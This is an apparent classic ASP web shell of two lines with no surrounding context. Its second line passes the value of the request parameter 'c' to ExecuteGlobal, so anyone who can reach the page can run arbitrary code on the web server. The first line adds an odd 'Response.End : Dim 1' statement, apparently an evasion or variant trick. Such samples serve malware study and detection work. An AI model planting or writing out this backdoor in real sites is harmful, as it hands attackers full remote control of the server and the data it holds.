<% Response.End : Dim 1 %>
<% ExecuteGlobal request("c") %>
